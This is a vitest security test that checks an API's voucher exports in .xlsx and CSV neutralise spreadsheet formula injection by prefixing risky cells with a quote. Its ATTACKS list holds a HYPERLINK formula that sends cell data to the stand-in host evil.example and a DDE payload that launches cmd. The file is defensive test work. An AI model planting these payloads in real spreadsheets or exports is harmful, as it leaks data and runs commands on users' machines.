import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type TestDatabase, type TestServer, seedDrillData, openApiTest, type ApiTest } from '../testing/index.js';

// Issue 13, item 13: delivered text that a spreadsheet would run as a formula (OWASP CSV injection).
const ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+1+2', '-2+3', '\t=1+1', '\r=1+1'];

describe('security: formula injection in exports', () => {
  let db: TestDatabase;
  let srv: TestServer;
  let staff: string;
  let nos: string[];
  let t: ApiTest;
  beforeAll(async () => {
    t = await openApiTest({
      seed: async (db) => {
        await seedDrillData(db.knex);
        nos = await db.knex('payment_vouchers').where('payee_name', 'like', '测试收款%').orderBy('voucher_no').pluck('voucher_no');
        // Four test vouchers carry the attacks: 用途 the first four, 收款人 the third to the sixth.
        for (const [i, no] of nos.entries()) {
          await db.knex('payment_vouchers').where({ voucher_no: no }).update({ purpose: ATTACKS[i], payee_name: ATTACKS[i + 2] });
        }
      },
    });
    ({ db, srv, staff } = t);
  });
  afterAll(async () => {
    await t?.close();
  });

  const download = async (format: string) => {
    const res = await fetch(`${srv.baseUrl}/api/v1/exports/vouchers?format=${format}&sort=amount&order=asc`, { headers: { cookie: staff } });
    expect(res.status).toBe(200);
    return Buffer.from(await res.arrayBuffer());
  };
  const neutral = (s: string) => `'${s}`;

  it('attack: =, @, +, -, tab and CR leading a text cell are prefixed with a quote in .xlsx; amounts stay numbers', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await download('xlsx')) as unknown as ArrayBuffer);
    const ws = wb.worksheets[0]!;
    const headers = (ws.getRow(1).values as unknown[]).slice(1);
    const [noCol, purposeCol, payeeCol, amountCol] = ['凭证号', '用途', '收款人', '金额（元）'].map((h) => headers.indexOf(h) + 1);
    const byNo = new Map<string, ExcelJS.Row>();
    ws.eachRow((row, i) => i > 1 && byNo.set(String(row.getCell(noCol).value), row));
    for (const [i, no] of nos.entries()) {
      const row = byNo.get(no)!;
      expect(row.getCell(purposeCol).value).toBe(neutral(ATTACKS[i]!));
      expect(row.getCell(purposeCol).type).not.toBe(ExcelJS.ValueType.Formula);
    }
    // (XML keeps a CR as a line feed.)
    nos.forEach((no, i) => expect(String(byNo.get(no)!.getCell(payeeCol).value).replace('\n', '\r')).toBe(neutral(ATTACKS[i + 2]!)));
    // A refund is a negative number cell, not a quoted text.
    const amounts = nos.map((no) => byNo.get(no)!.getCell(amountCol).value);
    expect(amounts).toContain(-300.33);
    expect(amounts.every((a) => typeof a === 'number')).toBe(true);
  });

  it('attack: the same cells in CSV are quoted-prefixed; the -300.33 refund stays an exact unprefixed decimal', async () => {
    const text = (await download('csv')).toString('utf8');
    const quoted = (s: string) => (/[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);
    for (const a of ATTACKS) {
      expect(text).toContain(`,${quoted(neutral(a))},`);
      expect(text).not.toContain(`,${quoted(a)},`);
    }
    expect(text).toContain(`,'\t=1+1,`); // a tab needs no CSV quoting, but is prefixed
    expect(text).toContain(`"'\r=1+1"`);
    expect(text).toMatch(/,-300\.33\r\n/);
  });
});
